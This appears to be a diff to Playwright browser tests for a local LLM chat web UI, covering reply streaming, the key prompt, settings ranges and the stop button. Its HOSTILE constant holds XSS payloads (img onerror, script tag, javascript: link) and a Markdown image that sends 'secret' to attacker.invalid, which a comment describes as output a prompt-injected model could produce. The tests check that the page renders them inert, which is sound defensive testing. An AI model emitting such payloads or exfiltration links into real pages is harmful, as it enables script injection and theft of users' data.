@@ -26,9 +26,20 @@ CANCELLED = 'llmcli:requests_total{finished_reason="cancelled"}'
 # Model text a prompt injection could produce: raw HTML with a handler, a Markdown image whose address
 # carries a secret out, a javascript: link. None of it may become an element, a request or a script.
 HOSTILE = (
-    "Here: <img src=x onerror=\"window.__pwned = 1\"> and ![x](http://attacker.invalid/?q=secret)\n\n"
+    'Here: <img src=x onerror="window.__pwned = 1"> and ![x](http://attacker.invalid/?q=secret)\n\n'
     '<script>window.__pwned = 2</script> [click](javascript:window.__pwned=3) <iframe src="/x"></iframe>'
 )
+TEE = """
+window.streams = [];
+const pageFetch = window.fetch;
+window.fetch = async (...args) => {
+  const response = await pageFetch(...args);
+  if (String(args[0]).endsWith('/v1/chat/completions') && response.ok) {
+    response.clone().text().then((text) => window.streams.push(text), () => window.streams.push(''));
+  }
+  return response;
+};
+"""
 PAGE_FILES = ("/ui", "/ui/app.js", "/ui/markdown.js", "/ui/style.css", "/ui/tables.json")
 
 
@@ -61,6 +72,9 @@ class Tab:
         self.outside: list[str] = []
         self.context.on("request", lambda request: self.requests.append(request.url))
         self.context.route("**/*", self._only_the_server)
+        # A copy of each chat reply's stream as the page receives it (DevTools keeps no body of a
+        # streamed fetch): the page's own fetch, teed.
+        self.context.add_init_script(TEE)
         if key is not None:  # as if typed at the key prompt earlier in this tab
             self.context.add_init_script(f"sessionStorage.setItem('llmcli.key', {json.dumps(key)})")
         self.server = server
@@ -76,7 +90,7 @@ class Tab:
             route.abort()
 
     def models(self) -> list[str]:
-        self.page.wait_for_selector("#model option")
+        self.page.wait_for_selector("#model option", state="attached")
         return self.page.eval_on_selector_all("#model option", "options => options.map(o => o.value)")
 
     def send(self, text: str, model: str) -> dict:
@@ -86,13 +100,22 @@ class Tab:
         page.select_option("#model", model)
         page.fill("#prompt", text)
         before = page.locator("section.assistant").count()
-        with page.expect_response(lambda r: r.url.endswith("/v1/chat/completions")) as answer:
-            page.press("#prompt", "Enter")
+        page.press("#prompt", "Enter")
         page.locator("section.assistant .actions").nth(before).wait_for()
-        return chunks(answer.value.text())
+        until(page, f"window.streams.length > {before}")
+        return chunks(page.evaluate(f"window.streams[{before}]"))
 
     def close(self) -> None:
         self.context.close()
+
+
+def until(page, expression: str) -> None:
+    """Poll `expression` in the page until it is true. Not wait_for_function: its predicate runs
+    through eval, which the page's CSP forbids (as it should)."""
+    end = time.monotonic() + HANG_GUARD_S
+    while not page.evaluate(expression):
+        assert time.monotonic() < end, f"never true: {expression}"
+        time.sleep(0.05)
 
 
 def chunks(body: str) -> dict:
@@ -135,7 +158,9 @@ def test_the_page_loads_without_the_key_and_fetches_nothing_elsewhere(browser, s
         # The settings are the parameter table's rows, each with its range.
         for row in USER_PARAMS.values():
             field = anonymous.page.locator(f"#param-{row.name}")
-            assert field.get_attribute("min") == str(row.low) and field.get_attribute("max") == str(row.high)
+            assert (
+                float(field.get_attribute("min")) == row.low and float(field.get_attribute("max")) == row.high
+            )
     finally:
         anonymous.close()
     assert anonymous.outside == []
@@ -161,9 +186,7 @@ def test_the_key_prompt_refuses_a_wrong_key_and_takes_the_right_one(browser, ser
         page.wait_for_selector("#key-form:not([hidden])")
         page.fill("#key", "sk-wrong")
         page.press("#key", "Enter")
-        page.wait_for_function(
-            "document.querySelector('#key-why').textContent.includes('the API key is not valid')"
-        )
+        until(page, "document.querySelector('#key-why').textContent.includes('the API key is not valid')")
         assert page.is_visible("#key-form")
         page.fill("#key", KEY)
         page.click("#key-ok")
@@ -209,7 +232,7 @@ def test_each_model_streams_a_reply_and_its_stage_bar_is_its_timings(tab, model)
     assert bar.locator("[data-total=tps]").text_content() == f"{timings['predicted_per_second']:.1f}"
     assert bar.locator("[data-total=cached]").text_content() == str(timings["cache_n"])
     # The model just used is marked loaded (from /api/ps) once the reply is in.
-    page.wait_for_selector(f"#model option[value='{model}'][data-loaded=yes]")
+    page.wait_for_selector(f"#model option[value='{model}'][data-loaded=yes]", state="attached")
 
 
 def test_stop_ends_the_reply_and_the_server_cancels_it(tab, server):
@@ -217,11 +240,11 @@ def test_stop_ends_the_reply_and_the_server_cancels_it(tab, server):
     tab.models()
     before = server.metric(CANCELLED, AUTH, absent=0)
     page.click("#settings summary")
-    page.fill("#param-max_tokens", "2000")
+    page.fill("#param-max_tokens", "600")  # within the --ctx 1024 the tests serve
     page.fill("#prompt", "Write a very long story about a dragon who learns to count to one thousand.")
     page.press("#prompt", "Enter")
     body = page.locator("section.assistant .body")
-    page.wait_for_function("document.querySelector('section.assistant .body').textContent.length > 20")
+    until(page, "document.querySelector('section.assistant .body').textContent.length > 20")
     page.click("#stop")
     page.wait_for_selector("section.assistant .actions .note")
     assert page.text_content("section.assistant .note") == "stopped"
